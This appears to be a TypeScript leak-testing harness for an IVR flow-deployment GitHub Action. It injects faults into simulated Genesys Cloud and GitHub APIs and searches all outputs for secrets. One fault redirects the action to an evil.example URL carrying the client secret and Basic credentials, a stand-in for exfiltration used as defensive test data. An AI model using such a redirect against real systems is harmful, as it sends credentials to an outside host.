// Runs the action in this process under one fault after the other, and looks for secrets in every byte of it; no test of its own.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request as forward } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createRequire, syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import timers from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { GenesysCloud } from '../../simulator/genesys/cloud.ts';
import type { Fault } from '../../simulator/genesys/faults.ts';
import { sampleArchitectOrg, sampleOrg } from '../../simulator/genesys/sample.ts';
import { listen as listenCloud } from '../../simulator/genesys/server.ts';
import { GitHub, listen as listenGithub } from '../../simulator/github/index.ts';
import { Redactor } from '../../src/secrets/redactor.ts';
import { inputVariables } from '../../harness/action-inputs.ts';
import { mainMenu } from '../../harness/architect-scene.ts';
import { readOutput } from '../../harness/commands.ts';
import { eventVariables } from '../../harness/event.ts';
import { pushEvent, REPOSITORY } from '../../harness/events.ts';
import { publishedFile } from '../../harness/published.ts';
import { changedMainMenu } from '../../harness/menus.ts';
import { createRepository, type PullRefs, type Repository } from '../../harness/repository.ts';
import type { FlowApi } from '../../harness/stage.ts';
import { leaksIn, writings } from '../../harness/leak-forms.ts';

// The SDK's own sources call `require`, which only the bundle gives them.
Object.assign(globalThis, { require: createRequire(import.meta.url) });
// No one waits here between two tries. The clock goes on as if someone had, or what is polled for minutes would be polled that long.
const { setTimeout: wait } = timers;
const now = performance.now.bind(performance);
let skippedMs = 0;
performance.now = () => now() + skippedMs;
timers.setTimeout = (async (milliseconds: number) => {
  const short = Math.min(milliseconds, 20);
  await wait(short);
  skippedMs += milliseconds - short;
}) as typeof wait;
syncBuiltinESMExports();
const later = globalThis.setTimeout;
globalThis.setTimeout = ((work: (...args: unknown[]) => void, milliseconds = 0, ...args: unknown[]) =>
  // What is longer is a deadline, and no pause.
  later(work, milliseconds <= 10_000 ? Math.min(milliseconds, 20) : milliseconds, ...args)) as typeof globalThis.setTimeout;

const { values } = parseArgs({ options: { api: { type: 'string' }, secret: { type: 'string' }, careless: { type: 'boolean' } } });
const api = values.api as FlowApi;
const CLIENT = { id: 'ivr-client', secret: values.secret ?? '' };
const GITHUB_TOKEN = 'ghs_+/=&<>"x9%41Kq';
const BASIC = Buffer.from(`${CLIENT.id}:${CLIENT.secret}`).toString('base64');

/** What is asked only after a write that was refused and kept all the same: whose it is, and back with it. */
const AFTER_REFUSAL: readonly (readonly [method: string, path: RegExp])[] = [
  ['GET', /\/flows\/[\da-f-]{36}\/versions\//u],
  ['PUT', /\/flows\/[\da-f-]{36}$/u],
];

/** What runs into each request of a deploy. */
const REQUESTS: Readonly<Record<FlowApi, readonly (readonly [method: string, path: RegExp])[]>> = {
  definition: [
    ['POST', /^\/oauth\/token$/u],
    ['GET', /^\/api\/v2\/flows$/u],
    ['POST', /\/flows\/query$/u],
    ['GET', /\/flows\/[\da-f-]{36}$/u],
    ['POST', /\/flows\/validate$/u],
    ['PATCH', /\/flows\/[\da-f-]{36}$/u],
    ...AFTER_REFUSAL,
  ],
  architect: [
    ['POST', /^\/oauth\/token$/u],
    ['GET', /^\/api\/v2\/flows$/u],
    ['GET', /\/flows\/[\da-f-]{36}$/u],
    ['POST', /\/flows\/export\/jobs$/u],
    ['GET', /\/flows\/export\/jobs\//u],
    ['GET', /^\/presigned\/downloads\//u],
    ['GET', /\/routing\/queues$/u],
    ['POST', /\/flows\/jobs$/u],
    ['PUT', /^\/presigned\/uploads\//u],
    ['GET', /\/flows\/jobs\//u],
  ],
};

/** A pull request that was merged, and whose push deploys. */
interface Proposal {
  readonly repository: Repository;
  readonly pull: PullRefs;
  readonly push: { readonly before: string; readonly after: string };
  readonly workspace: string;
}

type Kind = (texts: () => readonly string[]) => Fault;

/** A body that is filled with what the org knows when its moment has come. */
function filled(texts: () => readonly string[], fill: (texts: readonly string[]) => object): Pick<Fault, 'body' | 'before'> {
  const body = {};
  return { body, before: () => void Object.assign(body, fill(texts())) };
}

function errorOf(texts: readonly string[]): object {
  const [first = ''] = texts;
  return {
    message: `Refused ${first}`,
    error: first,
    error_description: first,
    code: first,
    contextId: first,
    details: [],
    errors: texts.map((text) => ({ code: text, message: text, path: text })),
  };
}

/** What a job that failed, an odd flow and a listing may say at once. */
function successOf(texts: readonly string[]): object {
  const [first = '', second = ''] = texts;
  const messages = texts.map((text) => ({ type: 'Error', text, details: [{ url: text, statusCode: 400, errorMessage: text }] }));
  return {
    id: 'job-1',
    name: first,
    type: 'INBOUNDCALL',
    status: 'Failure',
    messages,
    // Fewer than a whole page, which would make the action ask for the next one.
    entities: texts.slice(0, 99).map((text) => ({ id: text, name: text })),
    division: { id: second, name: first },
    lockedUser: { id: second, name: first },
    publishedVersion: { id: first, createdBy: { id: second, name: first } },
    version: 14,
    definition: { [first]: second },
  };
}

const KINDS: Readonly<Record<string, Kind>> = {
  ...Object.fromEntries(
    [400, 401, 403, 404, 405, 409, 422, 500].map(
      (status) => [`${status} that repeats`, (texts) => ({ status, ...filled(texts, errorOf) })] satisfies [string, Kind],
    ),
  ),
  '200 that repeats': (texts) => ({ status: 200, ...filled(texts, successOf) }),
  'a flow that repeats': (texts) => ({
    status: 200,
    ...filled(texts, (all) => ({ ...successOf(all), id: (stage.cloud.requests.at(-1)?.path ?? '').match(/[\da-f-]{36}/u)?.[0] ?? 'x' })),
  }),
  'a 429': () => ({ status: 429, headers: { 'retry-after': '0' }, times: 1 }),
  'a redirect that repeats': () => ({ redirect: `https://evil.example/?secret=${encodeURIComponent(CLIENT.secret)}&basic=${BASIC}` }),
  'a correlation id that repeats': () => ({ status: 400, headers: { 'inin-correlation-id': BASIC } }),
  'a page': () => ({ html: true }),
  nothing: () => ({ empty: true }),
  'a reset': () => ({ reset: 'before' }),
  'a lost answer': () => ({ reset: 'after', times: 1 }),
  'half an answer': () => ({ truncate: true, times: 1 }),
  'half a text': () => ({ halfBody: true, times: 1 }),
};

/** The same for GitHub, whose token it may repeat. */
const GITHUB: readonly (readonly [method: string, path: RegExp])[] = [
  ['GET', /\/commits\/[\da-f]{40}\/pulls/u],
  ['GET', /\/issues\/7\/comments/u],
  ['POST', /\/issues\/7\/comments/u],
];

let written = '';
const write = process.stdout.write.bind(process.stdout);
function captured(chunk: string | Uint8Array): boolean {
  written += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString();
  return true;
}

const root = mkdtempSync(join(tmpdir(), 'ivr-leaks-'));
const FILES = ['GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY', 'GITHUB_STATE', 'GITHUB_ENV', 'GITHUB_PATH'].map(
  (name) => [name, join(root, name)] as const,
);
const temp = join(root, 'temp');
mkdirSync(temp);

const file = api === 'architect' ? mainMenu({ 1: { prompt: 'For new orders, press 1' } }) : changedMainMenu();
const byName = file.replace(/^flow_id: .*$/mu, 'flow_name: Main IVR');
const byId = await propose(file);
const named = await propose(byName);
let stage = await open(byId);
// GitHub's library takes the address that it finds when it is loaded, and each case has a GitHub of its own.
const door = createServer((request, response) => {
  const { method = 'GET', url = '/', headers } = request;
  const passed = forward(`${stage.githubUrl}${url}`, { method, headers }, (answer) => {
    response.writeHead(answer.statusCode ?? 500, answer.headers);
    answer.pipe(response);
  });
  passed.on('error', () => response.destroy());
  request.pipe(passed);
});
await new Promise<void>((resolve) => {
  door.listen(0, '127.0.0.1', resolve);
});
const githubUrl = `http://127.0.0.1:${(door.address() as AddressInfo).port}`;
const { runMain } = await import('../../src/action/main.ts');
if (values.careless === true) Redactor.prototype.redact = (text) => text;

interface Place extends AsyncDisposable {
  readonly cloud: GenesysCloud;
  readonly github: GitHub;
  readonly cloudUrl: string;
  readonly githubUrl: string;
}

/** An org like all others of this API. */
function org(): GenesysCloud {
  const sample = api === 'architect' ? sampleArchitectOrg() : sampleOrg();
  return new GenesysCloud({ ...sample, clients: [CLIENT], jobTiming: { startMs: 1, finishMs: 2 } });
}

/** A Genesys Cloud and a GitHub of their own; the repository is the same for all. */
async function open({ repository, pull: { number, head, base }, push: { after } }: Proposal): Promise<Place> {
  const cloud = org();
  const permissions = { contents: 'read', 'pull-requests': 'write', actions: 'read' } as const;
  const github = new GitHub({
    repository: REPOSITORY,
    git: repository.directory,
    tokens: { [GITHUB_TOKEN]: { login: 'github-actions[bot]', type: 'Bot', permissions } },
  });
  github.addPull({ number, head, base });
  Object.assign(github.pulls[0] ?? {}, { state: 'closed', merged_at: '2026-01-05T09:00:00Z', merge_commit_sha: after });
  const stack = new AsyncDisposableStack();
  const listening = stack.use(await listenCloud(cloud));
  const hub = stack.use(await listenGithub(github));
  return { cloud, github, cloudUrl: listening.url, githubUrl: hub.url, [Symbol.asyncDispose]: () => stack.disposeAsync() };
}

/** A pull request that changes a menu, which git has kept before, to this. */
async function propose(text: string): Promise<Proposal> {
  const repository = await createRepository();
  await repository.write('ivr/main.yml', publishedFile(text, org()) ?? '');
  const before = await repository.commit('Keep the menu as it is published');
  await repository.branch('change-7', 'main');
  await repository.switch('change-7');
  await repository.write('ivr/main.yml', text);
  await repository.commit('Change the menu');
  await repository.switch('main');
  const pull = await repository.pullRequest({ number: 7, base: 'main', head: 'change-7' });
  const after = await repository.merge('change-7', { squash: true });
  return { repository, pull, push: { before, after }, workspace: await repository.checkout({ ref: 'refs/heads/main', depth: 1 }) };
}

/** All secrets that are known by now. */
function secrets(): string[] {
  const tokens = stage.cloud.requests
    .flatMap(({ headers }) => headers['authorization'] ?? [])
    .filter((header) => header.startsWith('Bearer '));
  const signatures = stage.cloud.requests.flatMap(({ query }) => query['X-Amz-Signature'] ?? []);
  return [...new Set([CLIENT.secret, BASIC, GITHUB_TOKEN, ...tokens.map((header) => header.slice(7)), ...signatures])];
}

async function play(name: string, arm: () => { readonly drawn: number }, proposal: Proposal): Promise<void> {
  const { push, workspace } = proposal;
  await stage[Symbol.asyncDispose]();
  stage = await open(proposal);
  const event = pushEvent(push);
  for (const [, path] of FILES) writeFileSync(path, '');
  const eventPath = join(root, 'event.json');
  writeFileSync(eventPath, JSON.stringify(event.payload));
  const inputs = {
    'client-id': CLIENT.id,
    'client-secret': CLIENT.secret,
    'gateway-url': stage.cloudUrl,
    mode: 'deploy',
    // A comment says what the summary says, and GitHub's library lets some seconds pass between two.
    comment: /^(?:GitHub|no fault)/u.test(name) ? 'auto' : 'never',
    // Nothing here is silent: this is for a busy machine, on which an answer may take its time.
    'timeout-seconds': '60',
  };
  const env = {
    ...Object.fromEntries(FILES),
    ...eventVariables(event),
    ...(await inputVariables(join(import.meta.dirname, '../../action.yml'), inputs, GITHUB_TOKEN)),
    GITHUB_API_URL: githubUrl,
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_EVENT_PATH: eventPath,
    GITHUB_WORKSPACE: workspace,
    RUNNER_TEMP: temp,
  };
  Object.assign(process.env, env);
  const struck = arm();
  written = '';
  process.stdout.write = captured;
  try {
    await runMain(process.env);
  } finally {
    process.stdout.write = write;
  }
  process.exitCode = 0;
  const visible = readOutput(written).filter(({ command }) => command?.name !== 'add-mask');
  const decoded = visible.map(({ command }) =>
    command === undefined ? '' : `${command.message}\n${Object.values(command.properties).join('\n')}`,
  );
  const left = FILES.map(([, path]) => readFileSync(path, 'utf8'));
  const reports = readdirSync(temp, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'));
  const toGithub = stage.github.requests.map(({ method, path, query, body }) => JSON.stringify([method, path, query, body]));
  const toCloud = stage.cloud.requests.map(({ method, path, query, headers, body }) => {
    const { authorization, ...others } = headers;
    const isSigned = path.startsWith('/presigned/');
    // A signature belongs to its own address, and the token and the secret to their header.
    return JSON.stringify([
      method,
      path,
      isSigned ? {} : query,
      isSigned ? headers : others,
      typeof body === 'string' ? body : JSON.stringify(body),
      isSigned ? authorization : '',
    ]);
  });
  const everything = [...visible.map(({ text: line }) => line), ...decoded, ...left, ...reports, ...toGithub, ...toCloud].join('\n');
  const firstMask = written.search(/^::add-mask::/mu);
  write(
    `${JSON.stringify({ name, drawn: struck.drawn, leaks: leaksIn(everything, secrets()).slice(0, 3), outputs: (left[0] ?? '').match(/^[\w-]+<<ghadelimiter_/gmu)?.length ?? 0, masksFirst: firstMask === 0, masked: everything.includes('***') })}\n`,
  );
}

const texts = (): string[] => secrets().flatMap((secret) => writings(secret));
await play('no fault', () => ({ drawn: 1 }), byId);
for (const [method, path] of REQUESTS[api]) {
  // A careless run need not be long: it is there to be caught.
  for (const [kind, make] of Object.entries(KINDS).slice(0, values.careless === true ? 1 : undefined)) {
    const isAfterRefusal = AFTER_REFUSAL.some(([, asked]) => asked === path);
    const proposal = path.source.includes('flows$') || path.source.includes('query') ? named : byId;
    await play(
      `${method} ${path.source}: ${kind}`,
      () => {
        if (isAfterRefusal) stage.cloud.faults.add({ method: 'PATCH', status: 422, afterApplying: true });
        return stage.cloud.faults.add({ times: Number.POSITIVE_INFINITY, ...make(texts), method, path });
      },
      proposal,
    );
  }
}
if (api === 'definition' && values.careless !== true) {
  for (const [method, path] of GITHUB) {
    for (const status of [401, 403, 422, 500]) {
      const name = `GitHub ${method} ${path.source}: ${status} that repeats`;
      let drawn = 0;
      const before = (): void => {
        drawn += 1;
      };
      const message = writings(GITHUB_TOKEN).join(' ');
      const struck = {
        get drawn() {
          return drawn;
        },
      };
      await play(
        name,
        () => {
          stage.github.faults.add({
            method,
            path,
            status,
            body: { message, documentation_url: message, errors: [message] },
            times: 99,
            before,
          });
          return struck;
        },
        byId,
      );
    }
  }
}
await stage[Symbol.asyncDispose]();
for (const { repository } of [byId, named]) await repository[Symbol.asyncDispose]();
rmSync(root, { recursive: true });
door.closeAllConnections();
door.close();
